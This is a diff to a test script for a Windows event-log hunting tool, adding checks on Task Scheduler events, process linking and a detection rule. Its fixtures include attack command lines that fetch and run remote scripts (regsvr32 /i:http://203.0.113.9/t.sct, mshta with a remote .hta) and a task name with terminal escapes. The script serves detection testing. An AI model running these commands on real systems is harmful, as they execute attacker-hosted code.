@@ -4,7 +4,9 @@
 # order and with a part lost, services (4697, 7045), a task's XML action,
 # DNS queries and a file drop, a WMI subscription (Sysmon 19/20/21,
 # WMI-Activity 5861) whose consumer's command runs, an lsass access (Sysmon
-# 10) and a remote thread (8) by their source; their --db columns
+# 10) and a remote thread (8) by their source, Task Scheduler runs (106,
+# 129, 200, 201: a process tied to its 129 without a 4698, once with
+# one); their --db columns
 # and process links; the report's context (started by, script, activity,
 # subscription, ran) and coverage; a host with only script blocks,
 # services or WMI consumers is examinable (not exit 3).
@@ -19,8 +21,8 @@ expect 0 "dump wks03" "$EVTXHUNT" dump -q --db "$T/d.db" "$W"
 import sqlite3, sys
 db = sqlite3.connect(sys.argv[1])
 kinds = dict(db.execute("SELECT kind, count(*) FROM events GROUP BY kind"))
-assert kinds == {"process": 10, "dns_query": 2, "file_create": 1,
-                 "script_block": 5, "service": 2, "task": 1,
+assert kinds == {"process": 11, "dns_query": 2, "file_create": 1,
+                 "script_block": 5, "service": 2, "task": 12,
                  "powershell": 4, "wmi": 4, "process_access": 1,
                  "create_remote_thread": 1}, kinds
 q = lambda sql: db.execute(sql).fetchall()
@@ -46,7 +48,7 @@ assert svc == [
      "%COMSPEC% /c C:\\Windows\\System32\\mshta.exe http://203.0.113.9/s.hta",
      "demand start", "LocalSystem")], svc
 task = q("SELECT task_name, image, command_line, user, pid FROM events"
-         " WHERE kind = 'task'")
+         " WHERE kind = 'task' AND event_id = 4698")
 assert task == [("\\Updater", "C:\\Windows\\System32\\regsvr32.exe",
     "C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://203.0.113.9/t.sct"
     " scrobj.dll", "CORP\\bob", 5120)], task
@@ -114,7 +116,7 @@ JOIN events c ON c.kind = 'wmi' AND c.event_id = 20
   AND c.computer = b.computer AND c.wmi_consumer = b.wmi_consumer
 WHERE b.kind = 'wmi' AND b.event_id = 21""")
 assert j == [("WKS03.corp.local", "SysPerfMon", query, reg)], j
-assert q("PRAGMA user_version") == [(4,)]
+assert q("PRAGMA user_version") == [(5,)]
 PYEOF
 
 # -- scan: findings with their context
@@ -159,7 +161,8 @@ assert rows == [("C:\\Windows\\System32\\regsvr32.exe", None, b % 2),
     ("C:\\Windows\\System32\\rundll32.exe", "service", None),
     ("C:\\Windows\\System32\\cmd.exe", "service", None),
     ("C:\\Windows\\System32\\regsvr32.exe", "task", None),
-    ("C:\\Windows\\System32\\regsvr32.exe", "wmi", None)], rows
+    ("C:\\Windows\\System32\\regsvr32.exe", "wmi", None),
+    ("C:\\Windows\\System32\\regsvr32.exe", "task", None)], rows
 # the consumer host's own start is not the consumer's action
 n = db.execute("""SELECT count(*) FROM processes p JOIN events e
     ON e.id = p.event WHERE e.image LIKE '%scrcons.exe'
@@ -196,7 +199,7 @@ assert cov[0]["sysmon_8"] == 1 and cov[0]["sysmon_10"] == 1, cov
 fs = [r for r in rows if r.get("type") == "finding"]
 started = [f["context"]["started_by"]["kind"] for f in fs
            if f["context"]["started_by"]]
-assert sorted(started) == ["service", "task", "wmi"], started
+assert sorted(started) == ["service", "task", "task", "wmi"], started
 assert all(f["context"]["subscription"] == [] for f in fs)
 cu = [f for f in fs if "certutil" in (f["command_line"] or "")][0]
 assert [a["kind"] for a in cu["context"]["activity"]] == \
@@ -321,7 +324,8 @@ def page(path):
 d, code = page(sys.argv[1])
 cs = [x["context"] for x in d["items"] if x.get("context")]
 assert sorted(c["started_by"]["kind"] for c in cs if c["started_by"]) == \
-    ["service", "task", "wmi"], cs
+    ["service", "task", "task", "wmi"], cs
+assert any(len(c["task"]) == 3 for c in cs), cs
 assert any(c["script"] and c["script"]["summary"].startswith(
     "script block {7A1C0D2E-0307-4C55-9D1A-000000000002} 1/3:") for c in cs)
 assert any([a["kind"] for a in c["activity"]] == ["dns_query",
@@ -329,7 +333,7 @@ assert any([a["kind"] for a in c["activity"]] == ["dns_query",
 # the detail view reads each key, as text (no innerHTML anywhere)
 for k in ("c.started_by", "c.script", "c.activity", "c.activity_total",
           "c.ran", "c.ran_total", "'started by'", "'script'",
-          "c.subscription"):
+          "c.subscription", "c.task"):
     assert k in code, k
 assert "innerHTML" not in code and "insertAdjacentHTML" not in code
 d, code = page(sys.argv[2])
@@ -393,4 +397,107 @@ assert ev[203]["event"]["summary"].endswith(
     " 3/3: (text in the block's first part)"), ev[203]
 assert ev[202]["event"]["summary"].endswith("} Invoke-Stage "), ev[202]
 PYEOF
+# -- Task Scheduler/Operational (wks03-taskscheduler.evtx): \Upd registered
+# by 106 alone, its run (129, 200, 201) starting regsvr32 /i:http... as a
+# 4688 child of svchost (wks03-security-tasks.evtx); \Updater's run, which
+# Security 4698 also logs
+expect 0 "dump task scheduler" "$EVTXHUNT" dump -q --db "$T/ts.db" \
+    "$W/wks03-taskscheduler.evtx"
+"$PY" - "$T/ts.db" <<'PYEOF' && ok "task scheduler columns" || fail "task scheduler columns"
+import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+r = db.execute("""SELECT event_id, task_name, user, image, command_line,
+    target_pid, task_instance_id, result_code, pid FROM events
+    WHERE task_name = '\\Upd' ORDER BY time""").fetchall()
+rs = "C:\\Windows\\System32\\regsvr32.exe"
+i = "{5E1D2C3B-0307-4A1B-9C8D-000000000002}"
+assert r == [(106, "\\Upd", "CORP\\bob", None, None, None, None, None, None),
+    (129, "\\Upd", None, rs, rs, 5660, None, None, None),
+    (200, "\\Upd", None, rs, rs, 5660, i, None, None),
+    (201, "\\Upd", None, rs, None, 5660, i, 2147942401, None),
+    (140, "\\Upd", "CORP\\bob", None, None, None, None, None, None),
+    (141, "\\Upd", "CORP\\bob", None, None, None, None, None, None)], r
+assert {k for (k,) in db.execute("SELECT DISTINCT kind FROM events")} == \
+    {"task"}
+PYEOF
+expect 0 "the Task Scheduler log alone is examinable" "$EVTXHUNT" scan \
+    -r "$RULES" "$W/wks03-taskscheduler.evtx"
+grep -q "task scheduler: 11" "$T/out" &&
+    ok "coverage counts the Task Scheduler" || fail "no Task Scheduler coverage"
+expect 1 "scan wks03 --db (task runs)" "$EVTXHUNT" scan -r "$RULES" \
+    --db "$T/ts2.db" "$W"
+cp "$T/out" "$T/report.txt"
+has "regsvr32 of \\Upd started by its 129" \
+    "started   2024-03-07T09:45:00.1000000Z task \\Upd launched C:\\Windows\\System32\\regsvr32.exe (pid"
+has "the run's registration (106)" \
+    "task      2024-03-07T09:40:00.0000000Z task \\Upd registered by CORP\\bob"
+has "the run's action start (200)" \
+    "2024-03-07T09:45:00.1100000Z task \\Upd started C:\\Windows\\System32\\regsvr32.exe"
+has "the run's completion, result in hex (201)" \
+    "task \\Upd action completed, result 0x80070001 (instance"
+has "\\Updater's regsvr32 shows its run beside the 4698" \
+    "task      2024-03-07T09:20:00.0500000Z task \\Updater launched C:\\Windows\\System32\\regsvr32.exe"
+has "coverage counts the Task Scheduler events" ", task scheduler: 11"
+"$PY" - "$T/ts2.db" <<'PYEOF' && ok "task runs linked once in --db" || fail "task runs in --db"
+import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+r = db.execute("""SELECT e.event_id, e.pid, o.event_id, o.task_name
+    FROM processes p JOIN events e ON e.id = p.event
+    JOIN events o ON o.id = p.origin WHERE o.kind = 'task'
+    ORDER BY e.time""").fetchall()
+# \Updater's process keeps its 4698 (no second link to the 129)
+assert r == [(1, 5230, 4698, "\\Updater"), (4688, 5660, 129, "\\Upd")], r
+PYEOF
+expect 1 "scan wks03 -f jsonl (task runs)" "$EVTXHUNT" scan -q -f jsonl \
+    -r "$RULES" "$W"
+"$PY" - "$T/out" <<'PYEOF' && ok "jsonl task context" || fail "jsonl task context"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
+assert cov[0]["taskscheduler"] == 11 and cov[0]["tasks"] == 1, cov
+fs = [r for r in rows if r.get("type") == "finding" and r["event_id"] == 4688]
+assert len(fs) == 1, fs
+c = fs[0]["context"]
+assert c["started_by"]["record_id"] == 506, c
+assert [e["record_id"] for e in c["task"]] == [505, 507, 508], c
+PYEOF
+cat > "$T/ts.yml" <<'EOF'
+title: regsvr32 launched by a scheduled task
+id: 5e1d2c3b-0307-4a1b-9c8d-0000000000aa
+logsource:
+    product: windows
+    service: taskscheduler
+detection:
+    selection:
+        EventID: 129
+        Path|endswith: '\regsvr32.exe'
+    condition: selection
+level: medium
+EOF
+expect 1 "taskscheduler rule" "$EVTXHUNT" scan -q -f jsonl -r "$T/ts.yml" "$W"
+"$PY" - "$T/out" <<'PYEOF' && ok "a 129 finding shows what it ran and its run" || fail "129 finding"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+fs = {r["record_id"]: r for r in rows if r.get("type") == "finding"
+      and r.get("kind") == "task"}
+assert sorted(fs) == [502, 506], fs
+c = fs[506]["context"]
+assert [p["command_line"] for p in c["ran"]] == \
+    ["regsvr32.exe /s /u /i:http://203.0.113.9/u.sct scrobj.dll"], c
+assert [e["record_id"] for e in c["task"]] == [505, 507, 508], c
+assert fs[506]["event"]["summary"] == \
+    "task \\Upd launched C:\\Windows\\System32\\regsvr32.exe (pid 5660)"
+# \Updater's process is the 4698's: its 129 ran nothing of its own
+assert fs[502]["context"]["ran"] == [], fs[502]
+PYEOF
+expect 1 "scan -a (task scheduler)" "$EVTXHUNT" scan -a -r "$RULES" "$W"
+grep -q -F 'task \Upd deleted by CORP\bob' "$T/out" &&
+    ok "a deletion on the timeline" || fail "no 141 on the timeline"
+"$PY" - "$T/out" <<'PYEOF' && ok "a hostile task name is escaped" || fail "task name escaping"
+import sys
+t = open(sys.argv[1], encoding="utf-8", errors="replace").read()
+assert "\x1b" not in t and "\x07" not in t
+assert "task \\Tmp" in t and "owned" in t
+PYEOF
+
 finish
